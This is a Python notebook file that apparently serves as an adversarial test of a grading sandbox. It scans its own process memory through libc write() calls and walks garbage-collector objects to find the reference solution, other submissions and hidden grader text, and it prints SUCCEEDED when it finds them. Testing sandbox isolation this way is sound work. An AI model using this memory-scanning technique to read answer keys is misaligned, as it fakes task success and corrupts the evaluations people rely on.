# %% [markdown]
# Reads its own memory, what it inherited included, for the text of the reference, of another
# submission and of the grader. The write call reads for it, and says where no memory is.
# expect: graded

# %%
import ctypes
import gc
import os
import re
import time

# patterns that do not match themselves, so that this cell is not what it finds
pattern = re.compile(
    rb"[a]ttack-secret|[B]EGIN SOLUTION|zip[(]x, w[)][)] [+] b|[w]ithout_markers|[j]udge_cell|[B]EGIN HIDDEN"
)
libc = ctypes.CDLL(None, use_errno=True)
libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
chunk, near = 1 << 15, 1 << 22
found = [o for thing in gc.get_objects() for o in (thing, *gc.get_referents(thing))]
fresh = {id(thing) // near for thing in found}
mine = {id(o) // near for o in found if isinstance(o, str) and "patterns that do" in o}
gc.unfreeze()
inherited = {id(thing) // near for thing in gc.get_objects()} - fresh
out, back = os.pipe()
control = re.compile(rb"[p]atterns that do not")  # of its own text, which must be found
buffer, seen, until = bytearray(chunk), False, time.monotonic() + 1.5
for place in [*sorted(mine), *sorted(fresh - mine), *sorted(inherited)]:
    for start in range(place * near, (place + 1) * near, chunk):
        if time.monotonic() > until:
            break
        got = libc.write(back, start, chunk)
        if got > 0:
            os.readv(out, [memoryview(buffer)[:got]])
            seen = seen or bool(control.search(buffer, 0, got))
            if found := pattern.search(buffer, 0, got):
                print("SUCCEEDED", bytes(found[0]))
if seen:
    print("TRIED")

# %%
until = time.monotonic() + 1
for thing in reversed(gc.get_objects()):
    if time.monotonic() > until:
        break
    for text in gc.get_referents(thing):
        text = text.encode("utf-8", "replace") if isinstance(text, str) else text
        if isinstance(text, bytes) and pattern.search(text):
            print("SUCCEEDED", text[:200])
